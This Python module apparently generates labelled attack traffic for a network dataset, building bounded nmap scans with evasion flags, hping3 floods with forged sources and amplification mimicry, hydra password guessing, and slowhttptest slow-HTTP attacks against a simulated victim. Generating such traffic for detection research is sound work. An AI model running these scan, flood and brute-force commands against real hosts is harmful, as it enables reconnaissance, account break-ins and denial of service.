# SPDX-License-Identifier: Apache-2.0
"""Attacks by Debian's usual tools for them. Every command has a bound: a number of packets, ports, passwords or seconds."""
from __future__ import annotations

import random

from .benign import Activity, Command, base_url
from .plan import Host, Plan
from .services import USER

NMAP = ("nmap", "-n", "-Pn", "--host-timeout", "20s")
HPING = ("hping3", "-q", "-n", "-I", "e0")


def some_ports(plan: Plan, numbers: random.Random, fewest: int, most: int) -> list[int]:
    """Ports to scan, the victim's open ones among them; their number follows the bound of packets."""
    count = max(10, min(numbers.randrange(fewest, most), plan.packets // 4))
    services = (plan.services.web, plan.services.ssh, plan.services.transfer)
    low = numbers.choice((1, 1, 1000, 5000))
    return sorted({*range(low, low + count - len(services)), *services})


def listed(ports: list[int]) -> str:
    return ",".join(map(str, ports))


def one_victim(plan: Plan, numbers: random.Random) -> list[str]:
    """The victim's address, of IPv6 now and then: with -6, as nmap, nping and hydra want it."""
    return ["-6", str(plan.victim.address6)] if numbers.random() < 0.3 else [str(plan.victim.address)]


def victims(plan: Plan, numbers: random.Random) -> list[str]:
    return list(map(str, plan.addresses[:3])) if numbers.random() < 0.3 else one_victim(plan, numbers)


# Evasions that nmap has for a kind of scan.
EXTRAS: dict[str, tuple[tuple[str, ...], ...]] = {
    "-sS": ((), ("-f",), ("--data-length", "24"), ("-g", "53")), "-sU": ((), ("--data-length", "24"), ("-g", "53")), "-sT": ((),)}


def scan(kind: str, fewest: int, most: int, *options: str) -> Activity:
    def commands(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
        speed = numbers.choice((("-T3",), ("-T4",), ("-T5",), ("-T4", "--max-rate", "300"), ("-T4", "--min-rate", "1500")))
        targets, extra = victims(plan, numbers), numbers.choice(EXTRAS[kind])
        if "-6" in targets:
            extra = ()
        return [Command(numbers.uniform(0.2, 1), (*NMAP, kind, *speed, "--max-retries", "1", *options, *extra,
                                                  "-p", listed(some_ports(plan, numbers, fewest, most)), *targets), 25)]
    return commands


def flag_scan(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
    kinds = ["-sN", "-sF", "-sX"]
    numbers.shuffle(kinds)
    return [Command(0.2, (*NMAP, kind, numbers.choice(("-T4", "-T5")), "--max-retries", "0", "-p", listed(some_ports(plan, numbers, 60, 400)),
                          *one_victim(plan, numbers)), 12) for kind in kinds]


def slow_scan(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
    """A scan that hides in other traffic: few ports, far apart."""
    delay = numbers.choice((40, 80, 150, 300))
    ports = numbers.sample(range(1, 10000), 12000 // delay)
    return [Command(0.2, (*NMAP, numbers.choice(("-sS", "-sT")), "--scan-delay", f"{delay}ms", "--max-retries", "0", "-p",
                          listed(sorted({*ports, plan.services.web})), *one_victim(plan, numbers)), 25)]


def ping_sweep(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
    probe = numbers.choice(((), ("-PE",), ("-PE", "-PP"), ("-PS22,80,443",), ("-PU53",)))
    return [Command(0.2, ("nmap", "-n", "-sn", numbers.choice(("-T3", "-T4", "-T5")), "--max-retries", "1", *probe, str(plan.victim.prefix)), 20)]


def flood(*kind: str) -> Activity:
    """hping3 sends this many packets at this interval; the network may have it forge its sources."""
    def commands(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
        tcp = bool({"-S", "-A"} & {*kind})
        options = numbers.choice(((), ("--tcp-mss", "1460"), ("--tcp-mss", "1400", "--tcp-timestamp")))
        look = (("-w", str(numbers.choice((512, 1024, 5840, 29200, 64240, 65535))), *options, "-p", str(plan.services.web)) if tcp else
                ("-d", str(numbers.choice((0, 18, 64, 512, 1200)))))
        target = ("-p", numbers.choice(("++1000", str(plan.services.names), "9"))) if "-2" in kind else ()
        interval = numbers.choice((30, 100, 300, 700))  # microseconds
        count = min(plan.packets // 2, 12_000_000 // interval)  # half: answers count, too
        interval = max(interval, 100_000 // count)  # a tenth of a second at least, even in a small capture
        return [Command(0.2, (*HPING, *kind, *look, *target, "-i", f"u{interval}", "-c", str(count),
                              str(plan.victim.address)), 20)]
    return commands


def amplification(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
    """Long answers that the victim has not asked for, from a service's port to one port of the victim."""
    interval = numbers.choice((100, 300, 700))
    return [Command(0.2, (*HPING, "-2", "--keep", "-s", numbers.choice(("53", "123", "389", "1900")), "-p", str(numbers.choice((80, 443, 40000))),
                          "-d", str(numbers.choice((300, 468, 1200))), "-i", f"u{interval}", "-c", str(min(plan.packets // 2, 4_000_000 // interval)),
                          str(plan.victim.address)), 20)]


def write_words(count: int, numbers: random.Random) -> list[str]:
    syllables = ("pass", "word", "123", "2024", "admin", "summer", "qwerty", "!", "dragon", "love", "42", "root")
    return ["".join(numbers.sample(syllables, 3)) for _ in range(count)]


def guess(service: str) -> Activity:
    """hydra with a bounded list of passwords, none of them right. The list is written by a command of its own."""
    def commands(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
        ssh = service == "ssh"
        words = write_words(numbers.randrange(30, 80) if ssh else min(numbers.randrange(200, 600), plan.packets // 8), numbers)
        name = f"WORK/{host.name}.words"
        # Without -w, hydra waits half a minute after sshd has closed a connection.
        wait = ("-w", numbers.choice(("1", "2"))) if ssh else ()
        target = ("ssh",) if ssh else ("http-get", "/private/")
        port = plan.services.ssh if ssh else plan.services.web
        return [Command(0, ("sh", "-c", f"printf '%s\\n' {' '.join(words)} > {name}")),
                Command(0.2, ("hydra", "-I", "-q", "-l", numbers.choice(("admin", "root", USER)), "-P", name,
                              "-t", str(numbers.choice((2, 4, 8))), *wait, "-s", str(port), *one_victim(plan, numbers), *target), 20)]
    return commands


def slow_http(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
    kind = numbers.choice((("-H", "-i", "1"), ("-B", "-i", "1", "-s", "8192"), ("-X", "-w", "64", "-y", "128", "-n", "1", "-z", "32", "-k", "3")))
    page = "upload" if "-B" in kind else f"{plan.pages[-1]}.html"
    return [Command(0.2, ("slowhttptest", "-c", str(min(numbers.choice((60, 150, 300)), plan.packets // 20)), *kind, "-r",
                          str(numbers.choice((20, 60, 150))), "-x", "24", "-p", "3", "-l", str(numbers.choice((8, 12))),
                          "-u", f"{base_url(plan, numbers)}/{page}"), 18)]
